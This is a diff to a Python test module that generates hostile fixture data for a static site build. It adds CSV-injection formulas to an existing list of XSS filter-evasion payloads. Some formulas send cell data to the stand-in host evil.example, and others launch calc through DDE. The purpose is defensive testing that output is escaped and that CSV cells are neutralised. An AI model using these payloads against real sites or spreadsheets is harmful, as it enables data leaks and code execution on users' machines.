@@ -3,10 +3,13 @@
 The strings follow the classes of the well-known XSS filter-evasion cheat sheets: plain and
 case-mangled script tags, event handlers, attribute and element break-outs, URL schemes in
 markup, entity and whitespace obfuscation, mutation XSS, SVG and MathML, CSS, meta refresh,
-base hijacking, unclosed raw-text elements, template syntax, bidi and zero-width tricks.
-Each is placed, as text, in every field of the site's records: the build must accept it and
-show it as text. Addresses that a browser would run or load from elsewhere (UNSAFE_LINKS) are
-a different matter: the build must refuse them.
+base hijacking, unclosed raw-text elements, template syntax, zero-width and look-alike tricks,
+and spreadsheet formulas (CSV injection, after OWASP): those come first, so that every field
+of the site starts with one. (Bidirectional overrides and control characters are refused
+by `check`: see tests/invalid/ and tests/test_characters.py.) Each is placed, as text, in
+every field of the site's records: the build must accept it and show it as text, and the
+CSV files must not start a cell with a formula. Addresses that a browser would run or load
+from elsewhere (UNSAFE_LINKS) are a different matter: the build must refuse them.
 
 `python -m tests.hostile` rewrites tests/fixtures/hostile/ from this file.
 """
@@ -23,7 +26,21 @@ ROOT = Path(__file__).resolve().parent.parent
 HOSTILE_SITE = ROOT / "tests" / "fixtures" / "hostile"
 EVIL = "evil.example"
 
+# Formulas a spreadsheet would run from a CSV cell: one opens each group of payloads below.
+FORMULAS: list[str] = [
+    f'=HYPERLINK("https://{EVIL}/?leak="&A1,"Fonte")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    f'=IMPORTXML(CONCAT("https://{EVIL}/?",A1),"//a")',
+    "+SUM(1,1)",
+    "=1+1",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what OWASP says a cell must not start with
+
 PAYLOADS: list[str] = [
+    *FORMULAS,
     "<script>alert(1)</script>",
     "<script>window.__xss=1</script>",
     f"<script src=//{EVIL}/x.js></script>",
@@ -40,7 +57,7 @@ PAYLOADS: list[str] = [
     "<img src=x onerror=alert(1)>",
     "<img src=\"x\" onerror=\"window.__xss=1\">",
     "<IMG SRC=javascript:alert('XSS')>",
-    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#9;ascript:alert('XSS');\">",  # (a raw tab: refused in one-line fields)
     "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
     "<img src=x:alert(alt) onerror=eval(src) alt=0>",
     "<img \"\"\"><script>alert(1)</script>\">",
@@ -104,7 +121,6 @@ PAYLOADS: list[str] = [
     "${alert(1)}",
     "#{alert(1)}",
     "{0} {1} %s %(x)s",
-    "\u202e<script>alert(1)</script>",
     "<scr\u200bipt>alert(1)</scr\u200bipt>",
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
 ]
@@ -214,7 +230,8 @@ def write_site(root: Path) -> Path:
     for i in range(CHUNKS):
         (root / "partners" / f"partner-{i}.yaml").write_text(dump({
             "id": f"partner-{i}", "kind": "city", "name": text(i), "country": "IT",
-            "location": {"lat": 45.0 + i / 10, "lon": 9.0 + i / 10}, "description": text(i + 5),
+            "location": {"lat": 45.0 + i / 10, "lon": 9.0 + i / 10},
+            "description": {lang: "\t" + value for lang, value in text(i + 5).items()},
         }), encoding="utf-8")
         g = joined(groups[i])
         facts = {
